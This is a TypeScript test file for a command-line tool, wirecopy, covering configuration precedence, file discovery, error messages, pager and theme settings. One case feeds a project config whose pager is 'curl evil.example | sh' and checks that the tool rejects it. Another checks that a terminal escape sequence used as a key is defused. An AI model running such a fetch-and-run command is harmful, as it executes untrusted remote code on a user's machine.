/** Configuration: where it is found, what beats what, and what a mistake in it says. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { looksLikeFile } from '../../src/cli/config/settings.js';
import schema from '../../src/config.schema.json' with { type: 'json' };
import { settings } from '../../src/configuration-keys.js';
import { formatNames } from '../../src/formats/index.js';
import { pageThemeNames } from '../../src/formats/page/themes/theme-names.js';
import { themes } from '../../src/formats/terminal/themes/index.js';
import { styles } from '../../src/houses/index.js';
import { folderWith, story, wirecopy } from '../support/command.js';

/** A home and a project in it, each with these files. */
function places(project: Record<string, string>, own: string | null = null) {
  const home = folderWith();
  const folder = join(home, 'desk', 'story');
  mkdirSync(folder, { recursive: true });
  for (const [name, content] of Object.entries(project)) writeFileSync(join(home, 'desk', name), content);
  if (own !== null) {
    mkdirSync(join(home, '.config', 'wirecopy'), { recursive: true });
    writeFileSync(join(home, '.config', 'wirecopy', 'wirecopy.json'), own);
  }
  const run = (args: string[], env: Record<string, string> = {}) =>
    wirecopy(args, { cwd: folder, env: { HOME: home, ...env } });
  const widest = (...all: Parameters<typeof run>) =>
    Math.max(
      ...run(...all)
        .stdout.split('\n')
        .map((line) => line.length),
    );
  return {
    home,
    folder,
    run,
    widest,
    values: (env = {}) => JSON.parse(run(['config', '-t', 'json'], env).stdout).values,
  };
}

describe('what is in force', () => {
  it('options beat environment beats the nearer file beats the user’s own beats the default', () => {
    const own = '{ "width": 60, "theme": "light" }';
    const { run, widest, values } = places({ 'wirecopy.json': '{ "width": 50 }' }, own);
    expect(widest(['-w', '30', story], { WIRECOPY_WIDTH: '40' })).toBeLessThanOrEqual(30);
    expect(widest([story], { WIRECOPY_WIDTH: '40' })).toBeLessThanOrEqual(40);
    expect(widest([story])).toBeGreaterThan(40);
    expect(widest([story])).toBeLessThanOrEqual(50);
    expect(widest(['--no-config', story])).toBeGreaterThan(60);
    expect(values()).toMatchObject({
      width: { value: 50, from: expect.stringMatching(/desk\/wirecopy\.json:1:3$/) },
      theme: { value: 'light', from: expect.stringMatching(/\.config\/wirecopy\/wirecopy\.json:1:16$/) },
      style: { value: null, from: 'default' },
    });
    expect(values({ WIRECOPY_WIDTH: '40' }).width).toEqual({ value: 40, from: 'WIRECOPY_WIDTH' });
    expect(widest(['explain', story], { WIRECOPY_WIDTH: '60' })).toBeLessThanOrEqual(60);
    expect(run(['config']).stdout).toMatch(/^width +50 +\/.*desk\/wirecopy\.json:1:3$/m);
  });

  it('lists every setting, and every setting is an option', () => {
    const { run, values } = places({});
    expect(Object.keys(values())).toEqual([...settings]);
    const help = run(['--help']).stdout;
    const asOption = (name: string) => name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`);
    for (const name of settings) expect(help).toMatch(new RegExp(`--(no-)?${asOption(name)}\\b`));
    expect(run(['config']).stdout).toContain('No configuration was found.');
  });

  it('is found in package.json too, upward; a package.json without it is passed over, a broken one too', () => {
    const { folder, widest, values } = places({ 'package.json': '{ "name": "desk", "wirecopy": { "width": 44 } }' });
    writeFileSync(join(folder, 'package.json'), '{ "name": "wirecopy" }');
    expect(widest([story])).toBeLessThanOrEqual(44);
    expect(values().width.from).toMatch(/desk\/package\.json:1:33$/);
    writeFileSync(join(folder, 'package.json'), '{ "wirecopy": ');
    expect(widest([story])).toBeLessThanOrEqual(44);
  });

  it('is found where XDG_CONFIG_HOME says', () => {
    const { home, values } = places({});
    mkdirSync(join(home, 'xdg', 'wirecopy'), { recursive: true });
    writeFileSync(join(home, 'xdg', 'wirecopy', 'wirecopy.json'), '\ufeff{ "quiet": true }');
    expect(values({ XDG_CONFIG_HOME: join(home, 'xdg') }).quiet.value).toBe(true);
    expect(values({ XDG_CONFIG_HOME: 'xdg' }).quiet.value).toBe(false);
  });

  it('names files beside itself', () => {
    const { run } = places({
      'wirecopy.json': '{ "style": "./house.json" }',
      'house.json': '{ "name": "own-house", "extends": "plain" }',
    });
    expect(JSON.parse(run(['-t', 'json', story]).stdout).style).toBe('own-house');
  });

  it('sets the format, where nothing says otherwise', () => {
    const { run } = places({ 'wirecopy.json': '{ "to": "json", "positions": true }' });
    expect(JSON.parse(run([story]).stdout)).toHaveProperty('sourceMap');
    expect(run(['-t', 'text', story]).stdout).toMatch(/^Newslooks/);
    // explain has forms of its own.
    expect(places({ 'wirecopy.json': '{ "to": "html" }' }).run(['explain', story]).stdout).toContain(
      'read as newslooks',
    );
  });
});

describe('a mistake', () => {
  it.each([
    ['{\n  "them": "dark"\n}', /wirecopy\.json:2:3: no key “them”: did you mean “theme”\?/],
    ['{ "theme": "drak" }', /wirecopy\.json:1:3: “theme” can’t be “drak”: Did you mean “dark”\?/],
    ['{ "width": 5 }', /:1:3: “width” can’t be “5”: It takes a whole number/],
    ['{ "width": "wide" }', /“width” can’t be “wide”/],
    ['{ "width": true }', /“width” takes a number/],
    ['{ "quiet": "yes" }', /“quiet” takes true or false/],
    ['{ "style": ["page"] }', /“style” takes a text/],
    ['{ "theme": "dark",\n "width": 55, }', /wirecopy\.json:2:15: no JSON: property name expected/],
    ['{ "theme": ', /no JSON/],
    ['["dark"]', /:1:1: it takes an object/],
    ['{ "pager": "curl evil.example | sh" }', /:1:3: a pager is a program: only your own configuration can name one/],
    ['{ "\\u001b]0;x\\u0007": 1 }', /no key “␛\]0;x␇”/],
    ['{ "style": "house.json" }', /house\.json: no such file/],
  ])('%j is told with its place and the way out', (content, message) => {
    const { run } = places({ 'wirecopy.json': content });
    const { status, stdout, stderr } = run([story]);
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr).toMatch(message);
    expect(stderr.split('\n')).toHaveLength(2);
    // Help and --no-config are the way out of it.
    expect(run(['--help']).status).toBe(0);
    expect(run(['--no-config', story]).status).toBe(0);
  });

  it('in a style or a theme is told with its line', () => {
    const folder = folderWith({
      'house.json': '{\n  "name": "own",\n  "labels": {\n    "quickLook": []\n  }\n}',
      'theme.json': '{\n  "name": "own",\n  "roles": {\n    "headlin": { "bold": true }\n  }\n}',
      'ink.json': '{ "name": "own", "roles": { "headline": { "color": "red" } } }',
    });
    const run = (...args: string[]) => wirecopy([...args, story], { cwd: folder }).stderr;
    expect(run('--style', 'house.json')).toMatch(
      /house\.json:4:5: \/labels: no key “quickLook”: did you mean “quickLooks”\?/,
    );
    expect(run('--theme', 'theme.json', '-t', 'terminal')).toMatch(
      /theme\.json:4:5: \/roles: no key “headlin”: did you mean “headline”\?/,
    );
    expect(run('--theme', 'ink.json', '-t', 'terminal')).toMatch(
      /ink\.json:1:\d+: \/roles\/headline\/color: must match pattern/,
    );
  });
});

describe('a pager', () => {
  it('may be named by the user’s own configuration, and switched off by any', () => {
    expect(places({}, '{ "pager": "less -RX" }').values().pager.value).toBe('less -RX');
    expect(places({ 'wirecopy.json': '{ "pager": false }' }).values().pager.value).toBe(false);
  });
});

describe('a theme of one’s own', () => {
  it('is used, and its faint inks are told by config', () => {
    const folder = folderWith({
      'mine.json':
        '{ "name": "mine", "extends": "dark", "roles": { "headline": { "color": "#333333", "bold": true } } }',
      'wirecopy.json': '{ "theme": "./mine.json" }',
    });
    const env = { COLORTERM: 'truecolor', HOME: folder };
    const { stdout } = wirecopy(['-t', 'terminal', '--color', 'always', story], { cwd: folder, env });
    expect(stdout).toContain('38;2;51;51;51m');
    expect(wirecopy(['config'], { cwd: folder, env }).stdout).toMatch(
      /headline is hard to read on a #1e1e1e background: its contrast is 1\.\d:1/,
    );
  });
});

it('the schema has the settings, and the names of all formats, styles and themes', () => {
  const { $schema: _, ...properties } = schema.properties;
  expect(Object.keys(properties)).toEqual([...settings]);
  expect(properties.to.enum).toEqual(formatNames);
  expect(properties.style.anyOf[0]?.enum).toEqual(styles.map(({ name }) => name));
  expect(properties.theme.anyOf[0]?.enum).toEqual(['auto', ...themes.map(({ name }) => name), ...pageThemeNames]);
  for (const { pattern } of [properties.style.anyOf[1], properties.theme.anyOf[1]].filter((one) => one !== undefined)) {
    for (const value of ['a.json', './a', 'dark'])
      expect(new RegExp(pattern ?? '').test(value)).toBe(looksLikeFile(value));
  }
});
